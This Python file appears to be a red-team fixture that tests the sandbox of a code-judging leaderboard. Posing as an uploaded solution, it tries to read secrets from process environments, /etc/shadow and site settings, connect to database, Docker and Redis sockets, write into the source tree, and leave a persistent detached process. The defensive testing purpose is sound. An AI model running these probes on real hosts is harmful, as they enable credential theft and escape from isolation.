"""Exploit (escape: the host beside the job): everything a stranger's upload would try once it runs on a worker.
- read the environment of every ancestor (the judge, the worker that started it: DATABASE_URL, the secret key);
- read /etc/shadow and the site's own files (its settings, its data directory);
- connect to Unix sockets: PostgreSQL's, the broker's, Docker's, one the test opens, an abstract one the test opens;
- write into the source tree;
- leave files in /dev/shm and /tmp, and keep a process running after the job.
Each attempt prints one line "probe NAME: ..."; the test reads them. Defences: own uid, own network and IPC namespaces,
a private filesystem view (evaluator/process/bwrap.py), reaping of the uid's processes and the group's shared
directories at the end of the job."""
import os
import socket
import subprocess
import sys

import torch.distributed as dist

SECRET = "__SECRET__"
SOCKET_PATH = "__SOCKET_PATH__"
ABSTRACT_NAME = "__ABSTRACT_NAME__"
REPO = "__REPO__"
TAG = "__TAG__"


def say(name, what):
    print(f"probe {name}: {what}", file=sys.stderr, flush=True)


def ancestors():
    pid = os.getpid()
    seen = []
    while pid > 1 and len(seen) < 64:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        seen.append(pid)
    return seen


def read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


if int(os.environ.get("RANK", "0")) == 0:
    leaked = []
    for pid in ancestors() + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if SECRET.encode() in read(f"/proc/{pid}/environ"):
                leaked.append(pid)
        except OSError:
            pass
    say("environ", f"LEAK from pids {sorted(set(leaked))}" if leaked else "refused")

    for path in ("/etc/shadow", "/etc/gshadow", os.path.join(REPO, "leaderboard", "settings.py"),
                 os.path.join(REPO, "manage.py"), os.path.join(REPO, "var")):
        try:
            data = read(path) if os.path.isfile(path) else "\n".join(os.listdir(path)).encode()
            say("read " + path, f"READ {len(data)} bytes" if data else "empty")
        except OSError as exc:
            say("read " + path, f"refused ({exc.strerror})")

    sockets = [SOCKET_PATH, "/var/run/postgresql/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432",
               "/var/run/docker.sock", "/run/docker.sock", "/var/run/redis/redis-server.sock"]
    for run_dir in ("/run", "/var/run"):
        try:
            for root, _dirs, files in os.walk(run_dir):
                sockets += [os.path.join(root, f) for f in files]
        except OSError:
            pass
    connected = []
    for path in dict.fromkeys(sockets):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect(path)
            connected.append(path)
        except OSError:
            pass
        finally:
            s.close()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect("\0" + ABSTRACT_NAME)
        connected.append("@" + ABSTRACT_NAME)
    except OSError:
        pass
    finally:
        s.close()
    say("unix sockets", f"CONNECTED {connected}" if connected else f"refused ({len(sockets)} paths tried)")

    for target in (os.path.join(REPO, "leaderboard", f"canary_{TAG}.py"),
                   os.path.join(REPO, "problems", f"canary_{TAG}.py")):
        try:
            with open(target, "w") as f:
                f.write("print('owned')\n")
            say("write " + target, "WROTE")
        except OSError as exc:
            say("write " + target, f"refused ({exc.strerror})")

    for place in ("/dev/shm", "/tmp", "/var/tmp"):
        try:
            with open(os.path.join(place, f"pkb-redteam-left-{TAG}"), "w") as f:
                f.write("left behind\n")
            say("leave " + place, "WROTE")
        except OSError as exc:
            say("leave " + place, f"refused ({exc.strerror})")
    # A detached process that outlives the job unless the judge kills it.
    subprocess.Popen([sys.executable, "-c", f"import time\nwhile True: time.sleep(0.2)  # pkb-redteam-{TAG}"],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    say("daemon", "started")


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
